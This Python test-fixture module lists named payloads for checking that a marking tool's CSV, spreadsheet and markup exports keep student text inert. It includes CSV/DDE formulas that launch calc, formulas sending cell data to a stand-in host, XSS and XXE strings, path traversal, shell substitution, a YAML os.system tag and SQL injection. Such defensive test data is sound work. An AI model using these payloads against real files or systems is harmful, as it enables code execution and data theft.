"""Text that a student, a class list or a copied comment can hold, and that a file must carry without harm or loss.

One table for every format that is written. A payload stands in a name, a question or a comment; what comes out must
hold it as text: no formula, no script or link, no markup, no path, nothing cut. ``core.plain.show`` may have made
characters visible that act or can't be stored, and a spreadsheet's CSV may have an apostrophe in front.

``PAYLOADS`` has them all; ``named`` gives one. Texts that begin like a formula are gathered by ``kind``.
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Payload:
    """One text, by a name that stays; ``kind`` says what it could do where it is written carelessly."""

    name: str
    text: str
    kind: str


def _kind(kind: str, **texts: str) -> tuple[Payload, ...]:
    return tuple(Payload(name.replace("_", "-"), text, kind) for name, text in texts.items())


LONG = 40_000
"""Letters in the long texts: an .xlsx cell holds 32,767."""

PAYLOADS: tuple[Payload, ...] = (
    *_kind(
        "formula",
        equals="=1+1",
        plus="+1+1",
        minus="-2+3",
        at="@SUM(1+1)",
        sum_of_cells="=SUM(A1:A9)",
        hyperlink='=HYPERLINK("http://example.test/?x="&A1,"Click for your mark")',
        webservice='=WEBSERVICE("http://example.test/"&A2)',
        importxml='=IMPORTXML("http://example.test/","//a")',
        importdata='=IMPORTDATA("http://example.test/marks.csv")',
        image='=IMAGE("http://example.test/pixel.png")',
        external="=[evil.xlsx]Sheet1!A1",
        dde_calc="=cmd|' /C calc'!A0",
        dde_plus="+cmd|' /C calc'!A0",
        dde_minus="-cmd|' /C calc'!A0",
        dde_at="@SUM(1+1)*cmd|' /C calc'!A0",
        dde_shell="=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        dde_function='=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
        array_formula="{=1+1}",
        quoted_formula='"=1+1"',
        apostrophe_formula="'=1+1",
        two_apostrophes="''=1+1",
        tab_led="\t=1+1",
        return_led="\r=1+1",
        newline_led="\n=1+1",
        tab_alone_led="\tEssay",
        space_led=" =1+1",
        spaces_led="    @SUM(A1)",
        nbsp_led="\u00a0=1+1",
        thin_space_led="\u2009+1+1",
        ideographic_led="\u3000=1+1",
        zero_width_led="\u200b=1+1",
        byte_order_led="\ufeff=1+1",
        joiner_led="\u2060-1+1",
        inner_newline="Good start.\n=1+1",
        inner_return="Good start.\r=1+1",
        inner_crlf="Good start.\r\n@SUM(A1)",
        inner_tab="Good start.\n\t=1+1",
        fullwidth_equals="＝1+1",
        fullwidth_plus="＋1+1",
        fullwidth_minus="－1+1",
        fullwidth_at="＠SUM(1+1)",
        semicolon_escape=";=1+1",
        comma_escape="a,=1+1",
        quote_escape='a","=1+1',
        quote_newline_escape='a"\n=1+1,"b',
        minus_dash="- a bullet, not a formula",
        minus_number="-5",
        plus_telephone="+44 20 7946 0000",
        at_handle="@amara",
        percent_led="%0A=1+1",
        pipe_led="|calc",
    ),
    *_kind(
        "number",
        leading_zeros="00417",
        long_number="12345678901234567890",
        exponent="1E5",
        date_like="3/4",
        month_like="MAR1",
        true_like="TRUE",
        error_like="#REF!",
        not_a_number="NaN",
        infinity="Infinity",
    ),
    *_kind(
        "markup",
        tag="<b>bold</b>",
        script="<script>alert(1)</script>",
        script_end="</script><script>alert(1)</script>",
        image_error="<img src=x onerror=alert(1)>",
        svg_load="<svg/onload=alert(1)>",
        attribute_escape='" onmouseover="alert(1)',
        attribute_apostrophe="' autofocus onfocus='alert(1)",
        iframe='<iframe src="javascript:alert(1)"></iframe>',
        style_import="</style><style>@import 'http://example.test/x.css'</style>",
        meta_refresh='<meta http-equiv="refresh" content="0;url=http://example.test/">',
        link_javascript="javascript:alert(1)",
        link_web="http://example.test/",
        link_file="file:///etc/passwd",
        link_internal="internal:Sheet2!A1",
        link_mail="mailto:head@example.test",
        entity="&lt;b&gt; &amp; &#61;1+1",
        xml_entity="&xxe;",
        doctype='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        cdata_end="a ]]> b",
        xml_comment="<!-- a -- b -->",
        processing="<?php echo 1 ?>",
        markdown_link="[Click](javascript:alert(1))",
        markdown_image="![x](http://example.test/pixel.png)",
        markdown_heading="# Heading\n\n* item",
        markdown_rule="---\ntitle: x\n---",
        markdown_code="```\ncode\n```",
        markdown_emphasis="**bold** _under_ ~~gone~~ `code`",
        markdown_table="| a | b |\n|---|---|\n| 1 | 2 |",
        markdown_html_block="<details open ontoggle=alert(1)>",
        textual_markup="[bold red]Mark[/bold red] [@click=app.quit]x[/]",
        textual_unclosed="[[textual]] [/nothing] \\[x]",
        typst_code='#import "/etc/passwd" #read("x") $x^2$',
        typst_set="#set page(width: 1cm) @cite <label> *b* _i_",
        typst_raw="`raw` // comment /* x */ \\ ~",
        latex="\\input{/etc/passwd} $\\frac{1}{0}$ % gone",
        template="{{ 7*7 }} {% include 'x' %} ${7*7} #{7*7}",
        json_escape='","mark":25,"x":"',
        toml_escape='"""\nmark = 25\n"""',
        yaml_escape="!!python/object/apply:os.system ['true']",
        sql_escape="'); DROP TABLE marking; --",
        format_directive="%s %n {0} {name!r} &P &D &[Tab]",
        xlsx_escape="_x0041_ _x000D_ _x005F_",
        xlsx_run="<r><t>=1+1</t></r>",
        xlsx_broken_run="<r>Henry & co</r>",
        word_field='{ HYPERLINK "http://example.test/" }',
        csv_separator_line="sep=;",
    ),
    *_kind(
        "path",
        parent="../../../etc/passwd",
        parent_windows="..\\..\\Windows\\win.ini",
        absolute="/etc/passwd",
        drive="C:\\Windows\\system.ini",
        reserved="CON",
        option_like="-rf",
        hidden_file=".htaccess",
        ending_dot="name.",
        shell="$(touch x) `touch x`; touch x",
        sheet_name="[Marks]:*?/\\'",
        null_path="marks.csv\x00.png",
    ),
    *_kind(
        "character",
        null="a\x00b",
        bell="a\x07b\x08c",
        escape_colour="\x1b[31mred\x1b[0m",
        escape_title="\x1b]0;title\x07",
        c1_control="a\x9b31mb\x85c",
        form_feed="a\x0cb\x0bc",
        delete="a\x7fb",
        right_to_left="Ben\u202etxt.exe",
        isolates="a\u2066b\u2067c\u2069d",
        zero_width="Ma\u200brk\u200d \u200c",
        soft_hyphen="his\u00adtory",
        line_separators="a\u2028b\u2029c",
        tags="a\U000e0041\U000e0042b",
        noncharacters="a\ufffe\uffffb\U0001fffeb",
        byte_order="a\ufeffb",
        lone_high="a\ud800b",
        lone_low="a\udc41b",
        swapped_pair="a\udc41\ud83db",
        astral="𝔎aiser 𐌰𐌱 🎓 👩🏽‍🏫",
        stacked="Z" + "\u0300\u0301\u0302" * 20 + "algo",
        decomposed="S\u030cwiderska e\u0301 \u1e9b\u0323",
        arabic="محمد العلي",
        hebrew="שרה כהן",
        chinese="毛泽东思想",
        turkish="İıĞğ",
        ligature="ﬁnal ﬀ",
        quotation="“Peace”, ‘land’ – and … bread",
        replacement="a\ufffdb",
        returns="a\rb\r\nc\nd",
        blank="   ",
        trailing_space="Ben ",
        quotes='"',
        quotes_within='He said ""no"", and left.',
        apostrophes="O'Connell ’s",
        separators="a,b;c\td|e",
        lines="one\ntwo\n\nthree",
    ),
    *_kind(
        "long",
        letters="a" * LONG,
        words="history " * (LONG // 8),
        astral_letters="🎓" * (LONG // 2),
        formula_then_long="=" + "1+" * (LONG // 2) + "1",
        lines_long="line\n" * (LONG // 5),
        controls_long="\x1b" * LONG,
    ),
)
"""Every payload. None is empty, and no two have one name."""


def named(name: str) -> Payload:
    """The payload of that name."""
    return next(payload for payload in PAYLOADS if payload.name == name)
